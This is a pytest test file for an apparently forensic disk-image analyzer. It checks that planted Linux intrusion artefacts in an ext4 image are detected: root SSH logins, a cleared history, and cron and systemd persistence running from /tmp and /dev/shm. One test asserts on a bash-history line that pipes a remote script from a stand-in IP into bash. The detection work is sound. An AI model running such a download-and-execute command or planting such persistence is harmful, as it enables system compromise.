"""An ext4 image made with mkfs.ext4 -d: every planted Linux artefact surfaces."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.analyzers.disk import planted
from tests.analyzers.disk.runs import analyze, findings, rule_ids, warnings

from madoguchi.analysis.result import ResultDocument


@pytest.fixture(scope="module")
def doc(ext4_image: Path) -> ResultDocument:
    return analyze(ext4_image)


def test_the_image_is_opened_and_its_host_named(doc: ResultDocument) -> None:
    (record,) = doc.inputs
    assert record.kind == "disk-image"
    assert record.analyzers == ("disk-image",)
    (system,) = doc.sections["disk_system"]
    assert system["hostname"] == planted.LINUX_HOST
    assert system["os"] in ("linux", "unix")
    assert all(f.host == planted.LINUX_HOST for f in doc.findings if f.analyzer == "disk-image")


def test_auth_log_sshd_lines_reach_the_timeline_and_the_auth_rules(doc: ResultDocument) -> None:
    auth = [t for t in doc.timeline if t.source == "linux:auth"]
    messages = " ".join(t.message for t in auth)
    assert "Accepted password for root" in messages
    assert "Failed password for root" in messages
    assert all(
        t.evidence is not None and t.evidence.path.endswith("!/var/log/auth.log") for t in auth
    )
    handed = [f for f in doc.findings if f.analyzer == "linux_auth"]
    assert handed, "auth.log was not handed to the Linux auth analyzer"
    assert any(f.source_ip == planted.ATTACKER_IP for f in handed)


def test_suspicious_bash_history_is_a_finding(doc: ResultDocument) -> None:
    (download,) = findings(doc, "disk-shell-history-download-pipe-shell")
    assert "curl -s http://198.51.100.9/x.sh | bash" in download.description
    assert download.evidence.path.endswith("!/root/.bash_history")
    assert "T1059.004" in download.attack
    assert "ja" in download.details and download.details["ja"]["title"]
    assert findings(doc, "disk-shell-history-history-cleared")


def test_cron_entry_running_from_tmp_is_persistence(doc: ResultDocument) -> None:
    (cron,) = findings(doc, "disk-cron-staging-path")
    assert "/tmp/.x/kworker" in cron.description
    assert cron.attack == ("T1053.003",)
    entries = doc.sections["disk_cron"][0]
    assert "/tmp/.x/kworker" in str(entries)


def test_systemd_unit_running_from_dev_shm_is_persistence(doc: ResultDocument) -> None:
    (unit,) = findings(doc, "disk-systemd-staging-path")
    assert unit.evidence.path.endswith("!/etc/systemd/system/syshelper.service")
    assert "T1543.002" in unit.attack
    assert any(t.source == "linux:systemd:unit" and "syshelper" in t.message for t in doc.timeline)


def test_no_warning_about_a_failed_family(doc: ResultDocument) -> None:
    assert not [w for w in warnings(doc) if "could not be read" in w or "failed" in w]
    assert "disk-image" in {a.name for a in doc.analyzers}
    assert rule_ids(doc)
